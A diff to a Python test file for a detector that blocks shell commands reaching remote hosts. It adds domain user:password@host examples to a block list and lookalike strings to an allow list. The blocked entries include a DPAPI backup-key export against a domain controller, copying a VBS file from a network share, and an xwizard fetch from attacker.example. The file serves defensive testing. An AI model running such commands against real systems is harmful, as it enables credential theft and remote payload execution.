@@ -37,6 +37,10 @@ BLOCKED = [
     ("powershell", "esentutl.exe /y \\\\host\\share\\x.vbs /d x.vbs /o"),
     ("powershell", "Get-Date >> \\\\host\\share\\x.txt"),
     ("powershell", "xwizard RunWizard {x} /zhttp://attacker.example/x"),
+    # A domain account and its password at a machine with a bare name.
+    ("posix", "python2 scan.py 'CORP/svc:Winter2024@TARGET'"),
+    ("posix", "dpapi.py backupkeys --export -t corp/admin:passw0rd@dc_01"),
+    ("posix", "mytool 'corp.local'/'alice':'pw'@'fileserver'"),
 ]
 
 # The same programs, and the words that look like locators but name nothing remote.
@@ -61,6 +65,8 @@ ALLOWED = [
     ("posix", "python -c \"print('https://example.com')\""),
     ("posix", "cat http://not-a-file"),
     ("posix", "pytest tests/test_app.py::test_home"),
+    ("posix", "mytool blame src/app.py:12@main"),
+    ("posix", "mytool resolve pkg:npm/lodash@4.17.21"),
     ("posix", "code --goto src/app.py:12"),
     ("posix", "docker image ls python:3.12"),
     ("posix", "date +%H:%M"),
@@ -107,6 +113,8 @@ def test_local_twins_and_text_stay_allowed(shell: str, command: str) -> None:
         ("test.local/john:password123@10.10.10.1", "user-host"),
         ("corp/svc:Winter2024!@dc01.corp.local", "user-host"),
         ("/Administrator:P@ssw0rd1@127.0.0.1", "user-host"),
+        ("corp/svc:Winter2024!@dc01", "user-host"),
+        ("domain/user:passw0rd@target_dc_ip", "user-host"),
     ],
 )
 def test_each_kind_of_locator_is_recognised(word: str, kind: str) -> None:
@@ -131,6 +139,9 @@ def test_each_kind_of_locator_is_recognised(word: str, kind: str) -> None:
         "dev@example.com",
         "pkg@1.2.3",
         "@scope/pkg@latest",
+        "src/app.py:12@main",
+        "corp/user:@dc01",
+        "pkg:npm/lodash@4.17.21",
     ],
 )
 def test_words_that_only_look_like_locators_are_not(word: str) -> None:
